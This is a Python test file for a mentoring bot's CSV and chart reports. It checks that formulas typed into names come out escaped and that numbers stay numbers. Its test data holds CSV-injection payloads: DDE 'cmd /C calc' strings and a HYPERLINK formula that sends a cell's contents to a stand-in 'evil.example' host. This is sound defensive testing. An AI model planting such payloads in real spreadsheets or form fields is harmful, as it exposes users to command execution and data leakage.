"""The lead's CSV export never runs a formula typed into a name; numbers stay numbers; the chart carries no names."""

from __future__ import annotations

import csv
import io

from bot.content import load_content
from bot.db import Database
from bot.impact.service import ResponseRow, aggregate, programme_report, report_chart, report_csv
from bot.matching import consent
from bot.matching.proposals import approve_proposal, compute_proposal
from bot.programmes import service as programmes
from bot.programmes.enrolment import EnrolmentInput, Person, enrol

CONTENT = load_content()
TOPICS = [topic_id for topic_id, _ in CONTENT.topic_options()]
HOSTILE = {
    "UAMARA": "+cmd|' /C calc'!A0",
    "UDIANA": '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "UBEN": "@SUM(1+1)*cmd|' /C calc'!A0",
    "UEVAN": "-2+3+cmd|' /C calc'!A0",
    "UCHLOE": "\t=1+1",
    "UFARAH": "\r=1+1",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def join(db: Database, programme_id: int, user_id: str, role: str, department: str) -> None:
    extra = {"inclusion_statement": "Patchy.", "understanding_gap": "Everyday barriers."} if role == "mentee" else {}
    data = EnrolmentInput(
        programme_id=programme_id,
        role=role,
        organisation="Acme" if role == "mentor" else "Globex",
        department=department,
        privacy_confirmed=True,
        **extra,
    )
    enrol(db, Person(user_id, HOSTILE[user_id], "UTC"), data, TOPICS)


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def test_formulas_typed_into_names_are_neutralised_in_the_export(db: Database) -> None:
    name = '=HYPERLINK("https://evil.example","Pilot")'
    programme = programmes.create_programme(
        db,
        programmes.ProgrammeInput(name=name, lead_ids=["ULENA"], cross_organisation=True),
        created_by="UADMIN",
        by_admin=True,
    )
    for user, role, department in (
        ("UAMARA", "mentor", "Finance"),
        ("UBEN", "mentor", "Legal"),
        ("UCHLOE", "mentor", "Ops"),
        ("UDIANA", "mentee", "Strategy"),
        ("UEVAN", "mentee", "Sales"),
        ("UFARAH", "mentee", "HR"),
    ):
        join(db, programme.id, user, role, department)
    assert len(compute_proposal(db, programme.id, "ULENA").pairs) == 3
    for offer in approve_proposal(db, programme.id, "ULENA").offers:
        consent.accept_offer(db, offer.id, offer.mentor_user_id)  # each mentor says yes first
    with db.session() as session:
        report = programme_report(session, programme.id, CONTENT, 5)
    rows = cells(report_csv(report.name, report.summary, report.pairs, report.impact))

    flat = [cell for row in rows for cell in row]
    assert "'" + name in flat
    for hostile in HOSTILE.values():
        assert "'" + hostile in flat, hostile
    for cell in flat:
        assert not cell.startswith(DANGEROUS), cell
    # Numbers stay numbers.
    pair_rows = [row for row in rows if row[:1] == ["pair"] and row[1] != "pair_id"]
    assert len(pair_rows) == 3 and all(row[1].isdigit() and row[7] == "0" for row in pair_rows)
    assert ["summary", "pairs", "3"] in rows


def test_signed_figures_stay_numbers_and_the_chart_takes_any_name() -> None:
    rows = [
        ResponseRow("mentee", kind, {q.id: value for q in CONTENT.survey(kind, "mentee").questions})
        for kind, value in (("baseline", 4), ("end", 3))
        for _ in range(5)
    ]
    impact = aggregate(rows, CONTENT)
    data = cells(report_csv("Pilot", [("sessions_held", "-1"), ("reflection_completion", "40%")], [], impact))
    changes = [row[7] for row in data if row[:1] == ["impact"] and row[3] == "end" and row[7]]
    assert changes and all(change == "-1.00" for change in changes)
    assert ["summary", "sessions_held", "-1"] in data and ["summary", "reflection_completion", "40%"] in data
    # The chart shows months, question ids and the programme's name; a name full of $ signs is plain text.
    png = report_chart("$\\frac{Pilot$ =HYPERLINK()", [("2027-01", 3)], impact)
    assert png.startswith(b"\x89PNG") and b"HYPERLINK" not in png
